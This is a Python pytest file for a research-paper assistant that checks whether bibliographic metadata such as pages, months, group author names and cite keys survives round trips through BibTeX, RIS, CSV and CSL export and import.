def _read_back(papers: list[Paper], fmt: ExportFormat, folder: Path) -> list[Paper]:
    """The papers exported in `fmt` to a file of its own in `folder`, and ingested from it."""
    path = folder / f"{fmt}-export.{SUFFIXES[fmt]}"
    path.write_text(export(papers, fmt))
    return load_corpus([path]).papers


@pytest.mark.parametrize("fmt", ["bibtex", "ris", "csv", "csl"])
def test_volume_issue_pages_and_publisher_go_out_in_every_format_and_read_back(tmp_path: Path, fmt: ExportFormat) -> None:
    back = _read_back([LOCATED, REPORT], fmt, tmp_path)
    assert [(p.volume, p.issue, p.pages, p.publisher) for p in back] == [("9", "8", "1735–1780", "MIT Press"), (None, "TR-07-01", "12", None)]
    assert [p.content_hash for p in back] == [LOCATED.content_hash, REPORT.content_hash]


def test_other_tools_read_the_volume_issue_pages_and_publisher_in_their_own_fields() -> None:
    (entry, _) = bibtexparser.parse_string(to_bibtex([LOCATED, REPORT])).entries
    assert {k: entry.fields_dict[k].value for k in ("volume", "number", "pages", "publisher")} == {
        "volume": "9", "number": "8", "pages": "1735--1780", "publisher": "MIT Press"}
    (ris, report_ris) = rispy.loads(to_ris([LOCATED, REPORT]))
    assert (ris["volume"], ris["number"], ris["start_page"], ris["end_page"], ris["publisher"]) == ("9", "8", "1735", "1780", "MIT Press")
    assert report_ris["issn"] == "TR-07-01" and "number" not in report_ris  # SN: where Zotero keeps a report's number
    article_row, report_row = csv.DictReader(to_csv([LOCATED, REPORT]).splitlines())
    assert (article_row["Issue"], article_row["Pages"], article_row["Publisher"]) == ("8", "1735-1780", "MIT Press")
    assert (report_row["Number"], report_row["Issue"], report_row["Publisher"], report_row["Publication Title"]) == (
        "TR-07-01", "", "IDSIA", "")  # as Zotero writes a report
    article, report = json.loads(to_csl([LOCATED, REPORT]))
    assert (article["volume"], article["issue"], article["page"], article["publisher"]) == ("9", "8", "1735-1780", "MIT Press")
    assert (report["number"], report["page"], report["publisher"]) == ("TR-07-01", "12", "IDSIA")  # a report's number


def test_the_store_keeps_the_pages_and_the_cli_shows_and_exports_them(
    store_copy: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    monkeypatch.setenv("ASSISTANT_STORE_DIR", str(store_copy))
    bib = tmp_path / "mine.bib"
    bib.write_text(
        "@article{hochreiter1997, title = {Long Short-Term Memory}, author = {Hochreiter, Sepp}, journal = {Neural Computation},\n"
        f"  year = {{1997}}, volume = {{9}}, number = {{8}}, pages = {{1735--1780}}, abstract = {{{LOCATED.abstract}}}}}\n"
    )
    assert _ingest_json(capsys, str(bib))["new"] == 1
    assert _ingest_json(capsys, str(bib))["unchanged"] == 1
    assert main(["papers", "--json"]) == 0
    (paper,) = [p for p in json.loads(capsys.readouterr().out) if p["title"] == "Long Short-Term Memory"]
    assert (paper["volume"], paper["issue"], paper["pages"], paper["publisher"]) == ("9", "8", "1735–1780", None)
    assert main(["export", paper["id"], "--format", "ris"]) == 0
    (ris,) = rispy.loads(capsys.readouterr().out)
    assert (ris["volume"], ris["number"], ris["start_page"], ris["end_page"]) == ("9", "8", "1735", "1780")


def test_a_book_read_from_two_files_keeps_its_publisher_only_as_its_venue(tmp_path: Path) -> None:
    """An untyped copy's publisher no export of a book writes: kept, it changed the paper on the way back."""
    (tmp_path / "a.bib").write_text(f"@book{{b, title = {{Deep Learning}}, publisher = {{MIT Press}}, abstract = {{{LOCATED.abstract}}}}}\n")
    (tmp_path / "b.jsonl").write_text(json.dumps({"title": "Deep Learning", "abstract": LOCATED.abstract, "publisher": "MIT Press"}) + "\n")
    (book,) = load_corpus([tmp_path]).papers
    assert (book.work_type, book.venue, book.publisher) == ("book", "MIT Press", None)
    book = book.model_copy(update={"key": None})  # the key aside: what is compared is where the publisher goes
    (tmp_path / "out").mkdir()
    for fmt in get_args(ExportFormat):
        assert [p.content_hash for p in _read_back([book], fmt, tmp_path / "out")] == [book.content_hash], fmt


def test_two_papers_that_derive_one_key_read_back_from_our_export_unchanged(tmp_path: Path) -> None:
    """The second of two hochreiter1997long became hochreiter1997longa in the export, and read back as a key given
    to it: the paper changed, and the key stayed."""
    twins = [LOCATED.model_copy(update={"id": f"t{i}", "abstract": LOCATED.abstract + f" Variant {i}."}) for i in range(2)]
    for fmt in get_args(ExportFormat):
        assert [(p.key, p.content_hash) for p in _read_back(twins, fmt, tmp_path)] == [(None, t.content_hash) for t in twins], fmt


def test_a_month_is_read_from_every_format_and_goes_out_in_every_format() -> None:
    """Zotero's `month = may`, biblatex's `date`, RIS's DA, CSL's date-parts, OpenAlex's publication_date: the
    month was read nowhere, so an export of a researcher's .bib lost every month it had."""
    from assistant.formats import month_of

    assert [month_of(v) for v in ("may", "{May}", "5", "2021-05-03", "2021/05//", "12 Jun 2017", "sept.")] == [5, 5, 5, 5, 5, 6, 9]
    assert [month_of(v) for v in ("2021", "2021///", "13", "Mayer", "Decade", None)] == [None] * 6
    (bib,) = [dict(r) for _, r in parse_bibtex("@article{a, title={T}, year=2021, month=may, abstract={x}}") if isinstance(r, dict)]
    (dated,) = [dict(r) for _, r in parse_bibtex("@article{b, title={T}, date={2020-11-03}, abstract={x}}") if isinstance(r, dict)]
    (ris,) = [dict(r) for _, r in parse_ris("TY  - JOUR\nTI  - T\nPY  - 2021\nDA  - 2021/03/02/\nAB  - x\nER  - \n") if isinstance(r, dict)]
    assert (bib["year"], bib["month"], dated["year"], dated["month"], ris["month"]) == (2021, 5, 2020, 11, 3)


@pytest.mark.parametrize("fmt", ["bibtex", "ris", "csv", "csl"])
def test_a_month_survives_the_round_trip_and_a_paper_without_one_keeps_its_hash(tmp_path: Path, fmt: ExportFormat) -> None:
    dated = LOCATED.model_copy(update={"month": 11})
    back = _read_back([dated, REPORT], fmt, tmp_path)
    assert [(p.year, p.month) for p in back] == [(1997, 11), (REPORT.year, None)]
    assert [p.content_hash for p in back] == [dated.content_hash, REPORT.content_hash]
    assert dated.content_hash != LOCATED.content_hash  # only a month given counts: stored papers keep theirs
    if fmt == "bibtex":  # BibTeX's own macro, which styles print in their language (braced, "{nov}" prints "nov")
        assert "\tmonth = nov," in export([dated], fmt)


def test_a_bib_key_wins_over_a_ris_id_whatever_order_the_files_come_in(tmp_path: Path) -> None:
    """Mendeley's RIS ID "Vaswani2017" took the place of the .bib's vaswani2017attention when the RIS came first."""
    (tmp_path / "b.bib").write_text(f"@article{{vaswani2017attention, title = {{T}}, abstract = {{{LOCATED.abstract}}}}}\n")
    (tmp_path / "a.ris").write_text(f"TY  - JOUR\nID  - Vaswani2017\nTI  - T\nAB  - {LOCATED.abstract}\nER  - \n")
    for order in ([tmp_path / "a.ris", tmp_path / "b.bib"], [tmp_path / "b.bib", tmp_path / "a.ris"]):
        assert [p.key for p in load_corpus(order).papers] == ["vaswani2017attention"]


@pytest.mark.parametrize(("fmt", "suffix"), [("csv", "csv"), ("ris", "ris")])
def test_a_groups_name_survives_a_csv_or_ris_round_trip(tmp_path: Path, fmt: ExportFormat, suffix: str) -> None:
    """CSV: "Barnes and Noble" split the author cell at " and " ("…; Barnes", "Noble; …"); RIS: a group's name came
    back as a person's ("Collaboration, The ATLAS" in CSL, "Barnes and Noble" two BibTeX authors)."""
    bib = tmp_path / "groups.bib"
    bib.write_text(GROUPS_BIB, encoding="utf-8")
    (paper,) = load_corpus([bib]).papers
    out = tmp_path / f"back.{suffix}"
    out.write_text(export([paper], fmt), encoding="utf-8")
    (back,) = load_corpus([out]).papers
    assert back.authors == paper.authors
    assert {n: back.families.get(n) for n in ("The ATLAS Collaboration", "Barnes and Noble")} == {
        "The ATLAS Collaboration": "The ATLAS Collaboration", "Barnes and Noble": "Barnes and Noble",
    }
    assert "{Barnes and Noble}" in to_bibtex([back]) and "{The ATLAS Collaboration}" in to_bibtex([back])


def test_a_papers_cite_key_is_the_same_whichever_papers_are_exported_with_it(tmp_path: Path) -> None:
    """Two papers deriving maaten2019visualizing: `export B` called B maaten2019visualizing, `export A B` called it
    maaten2019visualizinga, and `ask --bibtex` citing B gave it the key `export` gave A: a \\cite pasted from an
    answer pointed at another paper in library.bib."""
    from assistant.api import Assistant
    from assistant.config import Settings

    rows = [
        {"title": f"Visualizing {what} with t-SNE", "authors": "Laurens van der Maaten", "year": 2019,
         "abstract": f"We visualize {what} in two dimensions with a method that preserves neighbourhoods, and we "
                     "study how its parameters change the maps it draws across many data sets and models."}
        for what in ("data", "embeddings")
    ]
    (tmp_path / "two.jsonl").write_text("".join(json.dumps(r) + "\n" for r in rows))
    a = Assistant(Settings(store_dir=tmp_path / "s", seeds_dir=tmp_path / "none"))
    a.ingest([tmp_path / "two.jsonl"])
    first, second = sorted(p.id for p in a.papers())

    def keys(ids: list[str] | None, how: str = "export") -> dict[str, str]:
        library = bibtexparser.parse_string(a.export(ids) if how == "export" else a.references(ids or []))
        return {e["title"].strip("{}"): e.key for e in library.entries}

    both = keys(None)
    assert sorted(both.values()) == ["maaten2019visualizing", "maaten2019visualizinga"]
    for ids in ([first], [second], [second, first]):
        alone = keys(ids)
        assert all(both[title] == key for title, key in alone.items()), (ids, alone, both)
        cited = keys(ids, "references")
        assert all(both[title] == key for title, key in cited.items()), (ids, cited, both)


NAMED = Paper(
    id="p5", title="Names", abstract=LOCATED.abstract,
    authors=["Jan van der Berg", "Gabriel García Márquez", "John Smith Jr.", "DeepMind"],
    families={"Gabriel García Márquez": "García Márquez"},
)


def test_a_csv_export_writes_authors_last_name_first_and_reads_them_back_whole(tmp_path: Path) -> None:
    """CSV wrote "Gabriel García Márquez; …", which our reader (as Zotero's) takes as "First Last": he came back
    with the family name "Márquez"."""
    (row,) = csv.DictReader(to_csv([NAMED]).splitlines())
    assert row["Author"] == "van der Berg, Jan; García Márquez, Gabriel; Smith, John, Jr.; DeepMind"
    (back,) = _read_back([NAMED], "csv", tmp_path)
    assert (back.authors, back.families, back.content_hash) == (NAMED.authors, NAMED.families, NAMED.content_hash)
    alone = NAMED.model_copy(update={"authors": ["John Smith Jr."], "families": {}})  # one person, not three
    assert [p.authors for p in _read_back([alone], "csv", tmp_path)] == [["John Smith Jr."]]


INCOMPLETE = "Author list incomplete (et al.)"  # the note RIS's N1 holds for a list cut short


def test_a_list_cut_short_is_no_author_named_et_al_in_csv_or_csl(tmp_path: Path) -> None:
    """CSV wrote a person "et al." and CSL an author {"literal": "et al."}, which citeproc prints as a name; as in
    RIS, a note says the list is incomplete, and our reader takes it back."""
    cut = LOCATED.model_copy(update={"authors": ["Sepp Hochreiter", "Jürgen Schmidhuber", MORE_AUTHORS]})
    (row,) = csv.DictReader(to_csv([cut]).splitlines())
    assert row["Author"] == "Hochreiter, Sepp; Schmidhuber, Jürgen" and row["Notes"] == INCOMPLETE
    (item,) = json.loads(to_csl([cut]))
    assert item["author"] == [{"given": "Sepp", "family": "Hochreiter"}, {"given": "Jürgen", "family": "Schmidhuber"}]
    assert item["note"] == INCOMPLETE
    for fmt in ("csv", "csl"):
        assert [p.authors for p in _read_back([cut], fmt, tmp_path)] == [cut.authors], fmt
    whole = json.loads(to_csl([LOCATED]))[0]
    assert "note" not in whole and next(csv.DictReader(to_csv([LOCATED]).splitlines()))["Notes"] == ""  # only when cut short


def test_a_reference_to_an_untitled_abstract_names_its_id() -> None:
    """Its label, the abstract's first words, was all an answer's reference list, the conversation's Markdown
    and `ask --bibtex` said of it: nothing to find the record by."""
    from assistant.terminal import answer_footer
    from assistant.types import Answer, Citation

    untitled = LOCATED.model_copy(update={"id": "a77fca7394f9", "title": "Learning to store information…", "has_title": False})
    cited = Citation.of(1, untitled, "quote")
    assert cited.reference() == "Learning to store information… (id a77fca7394f9) — Sepp Hochreiter and Jürgen Schmidhuber, Neural Computation, 1997"
    assert Citation.of(1, LOCATED, "quote").reference().startswith("Long Short-Term Memory — ")  # a title is enough
    answer = Answer(question="q", text="It stores [1].", citations=[cited], abstained=False, settings_hash="h")
    assert "[1] Learning to store information… (id a77fca7394f9) — " in answer_footer(answer)
    served = Answer.model_validate(answer.model_dump(mode="json"))  # as `assistant serve` sends it to `ask`
    assert served.citations[0].reference() == cited.reference()
    assert set(answer.to_json()["citations"][0]) == {"n", "paper_id", "title", "quote", "authors", "year", "url", "venue"}
    note = bibtexparser.parse_string(to_bibtex([untitled], abstracts=False)).entries[0].fields_dict["note"].value
    assert note == "Untitled abstract beginning ``Learning to store information…'' (id a77fca7394f9)"
